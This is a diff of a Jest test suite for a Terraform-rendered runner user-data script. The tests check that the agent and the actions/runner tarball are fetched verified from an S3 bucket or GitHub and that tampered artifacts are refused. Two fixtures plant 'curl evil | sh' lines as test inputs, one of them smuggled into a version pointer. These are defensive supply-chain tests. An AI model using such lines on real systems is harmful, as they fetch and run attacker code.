@@ -1,17 +1,18 @@
 /**
  * The runner user data (modules/runner-pool/templates/user-data.sh.tftpl), rendered by
  * Terraform's own templatefile() in a provider-free root (offline), must be valid bash that
- * installs the agent byte for byte and writes an agent settings file the agent can source,
- * whatever characters the settings hold.
+ * fetches the agent and actions/runner verified (from the artifact bucket through the S3 facade,
+ * or GitHub), and writes an agent settings file the agent can source, whatever it holds.
  */
 import { afterAll, beforeAll, expect, test } from '@jest/globals';
-import { spawnSync } from 'node:child_process';
+import { spawn, spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { z } from 'zod';
+import { S3Facade } from '../../src/sim/facades/artifacts/s3-facade.js';
 
 const repo = fileURLToPath(new URL('../../..', import.meta.url));
 const template = join(repo, 'modules', 'runner-pool', 'templates', 'user-data.sh.tftpl');
@@ -51,9 +52,22 @@ const settings = {
   GHR_ENVIRONMENT: 'it\'s $HOME `date` "quoted"',
 };
 
-/** Stands in for the runner tarball: the template pins its SHA-256 like a real release's. */
-const tarball = 'not really a tarball\n';
-const tarballSha256 = createHash('sha256').update(tarball).digest('hex');
+/** Stands in for a runner tarball (one file the user data runs); the template pins its SHA-256 like a real release's. */
+function fakeRunnerTarball(marker: string): Buffer {
+  const dir = mkdtempSync(join(tmpdir(), 'ghr-tarball-'));
+  mkdirSync(join(dir, 'bin'));
+  writeFileSync(join(dir, 'bin', 'installdependencies.sh'), `#!/bin/sh\n# ${marker}\n`, { mode: 0o755 });
+  const packed = spawnSync('tar', ['czf', '-', '-C', dir, 'bin']);
+  rmSync(dir, { recursive: true, force: true });
+  return packed.stdout;
+}
+const tarball = fakeRunnerTarball('2.329.0');
+const newerTarball = fakeRunnerTarball('2.330.0');
+const sha256 = (text: string | Buffer) => createHash('sha256').update(text).digest('hex');
+const tarballSha256 = sha256(tarball);
+const agentSha256 = sha256(readFileSync(agent));
+const unitSha256 = sha256(readFileSync(unit));
+const BUCKET = 'ghr-artifacts-test';
 
 let rendered = '';
 /** The same pool with `install_docker` and `install_git` false, and no instance logs. */
@@ -61,6 +75,9 @@ let bare = '';
 /** The same pool on the `ubuntu` and `prebuilt` image profiles. */
 let ubuntu = '';
 let prebuilt = '';
+/** A pool on `runner_version = "latest"`, and one without the runner binary cache. */
+let latest = '';
+let noCache = '';
 
 beforeAll(() => {
   // Prepare: a root module whose only output is the rendered template.
@@ -83,9 +100,17 @@ beforeAll(() => {
     agent_script          = trimspace(file(${hcl(agent)}))
     agent_unit            = trimspace(file(${hcl(unit)}))
     agent_settings        = ${hcl(settings)}
+    runner_latest         = false
     runner_version        = "2.329.0"
     runner_arch           = "x64"
     runner_sha256         = "${tarballSha256}"
+    runner_cache          = true
+    artifact_bucket       = "${BUCKET}"
+    agent_key             = "agent/${agentSha256}/ghr-agent.sh"
+    agent_sha256          = "${agentSha256}"
+    unit_key              = "agent/${unitSha256}/ghr-agent.service"
+    unit_sha256           = "${unitSha256}"
+    region                = "eu-west-1"
     run_as                = "ec2-user"
     userdata_pre_install  = "echo pre"
     userdata_post_install = "echo post"
@@ -107,6 +132,12 @@ output "user_data_ubuntu" {
 output "user_data_prebuilt" {
   value = templatefile(${hcl(template)}, merge(local.vars, { image_profile = "prebuilt" }))
 }
+output "user_data_latest" {
+  value = templatefile(${hcl(template)}, merge(local.vars, { runner_latest = true }))
+}
+output "user_data_no_cache" {
+  value = templatefile(${hcl(template)}, merge(local.vars, { runner_cache = false }))
+}
 `,
   );
 
@@ -116,12 +147,21 @@ output "user_data_prebuilt" {
   const output = sh('terraform', ['output', '-json'], workDir);
   const text = z.object({ value: z.string() });
   const outputs = z
-    .object({ user_data: text, user_data_bare: text, user_data_ubuntu: text, user_data_prebuilt: text })
+    .object({
+      user_data: text,
+      user_data_bare: text,
+      user_data_ubuntu: text,
+      user_data_prebuilt: text,
+      user_data_latest: text,
+      user_data_no_cache: text,
+    })
     .parse(JSON.parse(output.stdout));
   rendered = outputs.user_data.value;
   bare = outputs.user_data_bare.value;
   ubuntu = outputs.user_data_ubuntu.value;
   prebuilt = outputs.user_data_prebuilt.value;
+  latest = outputs.user_data_latest.value;
+  noCache = outputs.user_data_no_cache.value;
 });
 
 afterAll(() => {
@@ -133,6 +173,8 @@ const profiles = [
   ['al2023 without them', () => bare],
   ['ubuntu', () => ubuntu],
   ['prebuilt', () => prebuilt],
+  ['latest from the cache', () => latest],
+  ['without the cache', () => noCache],
 ] as const;
 
 test.each(profiles)('the rendered user data is valid bash (%s)', (_name, text) => {
@@ -207,24 +249,6 @@ test('a pool that opts out gets neither git nor Docker', () => {
   expect(rendered).not.toContain('command -v docker');
 });
 
-test('the agent is installed exactly as the module ships it', () => {
-  const installed = between(
-    rendered,
-    "cat >/usr/local/bin/ghr-agent <<'GHR_AGENT_SCRIPT_EOF'\n",
-    '\nGHR_AGENT_SCRIPT_EOF\n',
-  );
-  expect(installed).toBe(readFileSync(agent, 'utf8').trim());
-});
-
-test('the systemd unit is installed exactly as agent/ghr-agent.service', () => {
-  const installed = between(
-    rendered,
-    "cat >/etc/systemd/system/ghr-agent.service <<'GHR_AGENT_UNIT_EOF'\n",
-    '\nGHR_AGENT_UNIT_EOF\n',
-  );
-  expect(installed).toBe(readFileSync(unit, 'utf8').trim());
-});
-
 test('the agent settings file sources back to the exact values, quotes and $ included', () => {
   // Prepare
   const envFile = join(workDir, 'ghr-agent.env');
@@ -241,23 +265,9 @@ test('the agent settings file sources back to the exact values, quotes and $ inc
   expect(sourced.stdout.split('\0').slice(0, -1)).toEqual(entries.map(([, value]) => value));
 });
 
-test('the pool hooks run around the installation, and the runner release is the one asked for', () => {
-  expect(rendered.indexOf('echo pre')).toBeLessThan(rendered.indexOf('actions-runner-linux-x64-2.329.0.tar.gz'));
+test('the pool hooks run around the installation', () => {
+  expect(rendered.indexOf('echo pre')).toBeLessThan(rendered.indexOf('actions-runner-linux-x64-$version.tar.gz'));
   expect(rendered.indexOf('echo post')).toBeLessThan(rendered.indexOf('systemctl enable --now ghr-agent.service'));
-});
-
-test('the runner tarball is checked against its pinned SHA-256 before it is unpacked, and a mismatch stops user data', () => {
-  // Prepare: the check exactly as rendered, run where the download would have landed.
-  const check = rendered.split('\n').find((line) => line.includes('sha256sum --check'));
-  expect(check).toBe(`echo "${tarballSha256}  runner.tar.gz" | sha256sum --check --strict -`);
-  expect(rendered.indexOf(check ?? '-')).toBeLessThan(rendered.indexOf('tar xzf runner.tar.gz'));
-  const dir = mkdtempSync(join(workDir, 'download-'));
-
-  // Act + Assess: the pinned tarball passes, a tampered one fails (set -e ends user data there).
-  writeFileSync(join(dir, 'runner.tar.gz'), tarball);
-  expect(sh('bash', ['-euo', 'pipefail', '-c', check ?? 'false'], dir).status).toBe(0);
-  writeFileSync(join(dir, 'runner.tar.gz'), `${tarball}tampered\n`);
-  expect(sh('bash', ['-euo', 'pipefail', '-c', check ?? 'true'], dir).status).not.toBe(0);
 });
 
 /** The CloudWatch agent's configuration as user data writes it. */
@@ -323,4 +333,155 @@ test('instance logs install the CloudWatch agent per profile, and never fail the
 
 test('without instance logs nothing of the CloudWatch agent is rendered', () => {
   expect(bare).not.toMatch(/cloudwatch|ghr-agent\.log/i);
+});
+
+// --- Fetching from the artifact bucket: each branch run against the S3 facade (through the aws shim). ---
+
+const BIN = join(repo, 'lambdas', 'src', 'bench', 'agent');
+
+interface Fetched {
+  readonly status: number;
+  readonly output: string;
+  readonly githubDownloads: string[];
+  readonly unpacked: string | undefined;
+  readonly agentInstalled: boolean;
+}
+
+/**
+ * Runs the user data from the fetch function to the agent's unit, in a scratch directory: `aws`
+ * is the shim (S3 facade), `curl` copies from a stand-in for GitHub's releases, `sleep` returns.
+ */
+async function fetchSection(
+  text: string,
+  bucket: Record<string, Buffer | string>,
+  github: Record<string, Buffer>,
+): Promise<Fetched> {
+  const dir = mkdtempSync(join(workDir, 'fetch-'));
+  const shims = join(dir, 'shims');
+  const releases = join(dir, 'github');
+  mkdirSync(shims);
+  mkdirSync(releases);
+  writeFileSync(join(shims, 'aws'), `#!/bin/sh\nexec "${process.execPath}" "${join(BIN, 'aws-shim.mjs')}" "$@"\n`, {
+    mode: 0o755,
+  });
+  writeFileSync(join(shims, 'sleep'), '#!/bin/sh\n', { mode: 0o755 });
+  // curl -fsSL --retry 5 -o FILE URL: the release file by name, or curl's exit 22 (HTTP 404).
+  writeFileSync(
+    join(shims, 'curl'),
+    `#!/bin/bash\nout=; for ((i = 1; i <= $#; i++)); do [ "\${!i}" = -o ] && { j=$((i + 1)); out=\${!j}; }; done\nurl=\${!#}\necho "$url" >>"${releases}/downloads.log"\ncp "${releases}/$(basename "$url")" "$out" 2>/dev/null || exit 22\n`,
+    { mode: 0o755 },
+  );
+  for (const [name, bytes] of Object.entries(github)) writeFileSync(join(releases, name), bytes);
+  const s3 = new S3Facade();
+  const url = await s3.start();
+  for (const [key, body] of Object.entries(bucket)) s3.seed(BUCKET, key, body);
+  const section = text
+    .slice(text.indexOf('fetch_verified() {'), text.indexOf('\n# Agent settings'))
+    .replace('runner_dir=/opt/actions-runner', `runner_dir=${join(dir, 'runner')}`)
+    .replace(/^chown -R .*$/m, ':')
+    .concat(
+      between(
+        text,
+        '# The agent and its unit, as this module version ships them (agent/), checked against their SHA-256.\n',
+        '\n\n',
+      ),
+    )
+    .replaceAll('/usr/local/bin/ghr-agent', join(dir, 'ghr-agent'))
+    .replaceAll('/etc/systemd/system/ghr-agent.service', join(dir, 'ghr-agent.service'));
+  try {
+    const run = await new Promise<{ status: number; output: string }>((resolve) => {
+      const child = spawn('bash', ['-euo', 'pipefail', '-c', section], {
+        cwd: dir,
+        env: { ...env, PATH: `${shims}:${env.PATH ?? ''}`, GHR_TEST_S3_URL: url },
+      });
+      let output = '';
+      child.stdout.on('data', (d: Buffer) => (output += d.toString()));
+      child.stderr.on('data', (d: Buffer) => (output += d.toString()));
+      child.on('close', (code) => resolve({ status: code ?? -1, output }));
+    });
+    const log = join(releases, 'downloads.log');
+    const marker = join(dir, 'runner', 'bin', 'installdependencies.sh');
+    return {
+      ...run,
+      githubDownloads: existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : [],
+      unpacked: existsSync(marker) ? readFileSync(marker, 'utf8').split('\n')[1] : undefined,
+      agentInstalled:
+        existsSync(join(dir, 'ghr-agent')) && readFileSync(join(dir, 'ghr-agent')).equals(readFileSync(agent)),
+    };
+  } finally {
+    await s3.close();
+  }
+}
+
+const agentObjects = () => ({
+  [`agent/${agentSha256}/ghr-agent.sh`]: readFileSync(agent),
+  [`agent/${unitSha256}/ghr-agent.service`]: readFileSync(unit),
+});
+const cached = (version: string, bytes: Buffer) => ({
+  [`runners/${version}/actions-runner-linux-x64-${version}.tar.gz`]: bytes,
+});
+const released = (version: string, bytes: Buffer) => ({ [`actions-runner-linux-x64-${version}.tar.gz`]: bytes });
+
+test('pinned release in the cache: unpacked from the bucket, nothing from GitHub; the agent installed as shipped', async () => {
+  const run = await fetchSection(rendered, { ...agentObjects(), ...cached('2.329.0', tarball) }, {});
+  expect([run.status, run.unpacked, run.githubDownloads, run.agentInstalled]).toEqual([0, '# 2.329.0', [], true]);
+  expect(run.output).toContain('actions/runner 2.329.0 (x64) from the cache');
+});
+
+test("a cached tarball that does not match the pin is not unpacked: GitHub's, which matches, is", async () => {
+  const run = await fetchSection(
+    rendered,
+    { ...agentObjects(), ...cached('2.329.0', newerTarball) },
+    released('2.329.0', tarball),
+  );
+  expect([run.status, run.unpacked, run.githubDownloads.length]).toEqual([0, '# 2.329.0', 1]);
+  expect(run.output).toContain('from the GitHub');
+});
+
+test('nothing cached and a tampered download from GitHub: user data stops before unpacking', async () => {
+  const run = await fetchSection(rendered, agentObjects(), released('2.329.0', newerTarball));
+  expect([run.status === 0, run.unpacked, run.agentInstalled]).toEqual([false, undefined, false]);
+});
+
+test("latest: the cache's pointer names the release and its SHA-256; the tarball comes from the bucket", async () => {
+  const bucket = {
+    ...agentObjects(),
+    ...cached('2.330.0', newerTarball),
+    'runners/latest/linux-x64': `2.330.0 ${sha256(newerTarball)}\n`,
+  };
+  const run = await fetchSection(latest, bucket, {});
+  expect([run.status, run.unpacked, run.githubDownloads]).toEqual([0, '# 2.330.0', []]);
+  expect(run.output).toContain('actions/runner 2.330.0 (x64) from the cache');
+});
+
+test.each([
+  ['no pointer yet', undefined],
+  ['a pointer that is not `<version> <sha256>`', '2.330.0; curl evil | sh\n'],
+])('latest with %s: the pinned release, from GitHub when the bucket lacks it', async (_name, pointer) => {
+  const bucket = { ...agentObjects(), ...(pointer === undefined ? {} : { 'runners/latest/linux-x64': pointer }) };
+  const run = await fetchSection(latest, bucket, released('2.329.0', tarball));
+  expect([run.status, run.unpacked, run.githubDownloads]).toEqual([
+    0,
+    '# 2.329.0',
+    ['https://github.com/actions/runner/releases/download/v2.329.0/actions-runner-linux-x64-2.329.0.tar.gz'],
+  ]);
+});
+
+test('an agent in the bucket that is not the one this module ships is never installed: user data stops', async () => {
+  const bucket = {
+    ...agentObjects(),
+    [`agent/${agentSha256}/ghr-agent.sh`]: '#!/bin/bash\ncurl evil | sh\n',
+    ...cached('2.329.0', tarball),
+  };
+  const run = await fetchSection(rendered, bucket, {});
+  expect([run.status === 0, run.agentInstalled]).toEqual([false, false]);
+});
+
+test("without the cache the bucket's tarballs are never read: GitHub's release is", async () => {
+  const run = await fetchSection(
+    noCache,
+    { ...agentObjects(), ...cached('2.329.0', tarball) },
+    released('2.329.0', tarball),
+  );
+  expect([run.status, run.githubDownloads.length, run.agentInstalled]).toEqual([0, 1, true]);
 });
